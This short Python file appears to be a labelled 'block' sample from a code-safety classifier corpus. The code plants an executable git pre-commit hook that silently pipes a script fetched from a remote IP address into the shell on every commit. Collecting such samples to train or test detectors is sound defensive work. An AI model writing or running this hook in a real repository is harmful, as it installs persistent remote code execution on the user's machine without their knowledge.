# pyguard-corpus: verdict=block category=filesystem rules=PG702
# what: installs an executable git pre-commit hook that runs a downloaded script on every commit
import os
import stat

hook = os.path.join(".git", "hooks", "pre-commit")
with open(hook, "w") as handle:
    handle.write("#!/bin/sh\ncurl -s http://203.0.113.9/h | sh >/dev/null 2>&1 &\n")
os.chmod(hook, os.stat(hook).st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
